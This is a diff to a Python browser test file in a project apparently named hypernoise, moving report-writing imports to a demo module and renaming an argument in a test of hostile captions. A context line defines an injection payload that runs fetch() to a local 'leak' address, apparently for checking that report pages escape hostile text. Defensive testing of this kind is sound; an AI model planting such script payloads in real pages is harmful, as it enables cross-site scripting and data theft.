@@ -18,11 +18,13 @@ from safetensors.torch import load_file, save_file
 from hypernoise.hypernoise_core.adapter import AdapterError
 from hypernoise.hypernoise_core.text import printable
 from hypernoise.tests.trust.generated import examples
+from hypernoise.training import demo
 from hypernoise.training.card import write_card
-from hypernoise.training.evaluation import figures, report
-from hypernoise.training.evaluation.figures import GainPoint, Point
 from hypernoise.training.evaluation.run_report import write_run_report
 from hypernoise.training.pipelines import EMBEDDED_ADAPTER
+from hypernoise.training.report import figures
+from hypernoise.training.report import page as report
+from hypernoise.training.report.figures import GainPoint, Point
 from hypernoise.training.tracking import MetricsLog
 
 RUN = "window.pwned=1;fetch('http://127.0.0.1:9/leak')"
@@ -117,13 +119,13 @@ def test_a_policy_on_the_page_holds_even_where_a_part_is_not_escaped(browser, tm
 @pytest.mark.browser
 def test_the_demo_s_page_shows_hostile_methods_and_captions(visit, tmp_path, tally):
     (tmp_path / "a.png").write_bytes(PNG)
-    entry = report.method_entry(0.5, dict.fromkeys(HOSTILE, 0.5), 1.0, 0.1)
-    report.write_html(
+    entry = demo.method_entry(0.5, dict.fromkeys(HOSTILE, 0.5), 1.0, 0.1)
+    demo.write_html(
         tmp_path / "report.html",
         title=HOSTILE[0],
         summary=HOSTILE,
         methods=dict.fromkeys(HOSTILE, entry),
-        figures=dict.fromkeys(HOSTILE, tmp_path / "a.png"),
+        pictures=dict.fromkeys(HOSTILE, tmp_path / "a.png"),
         emphasised=HOSTILE[3],
     )
     page = visit(tmp_path / "report.html")
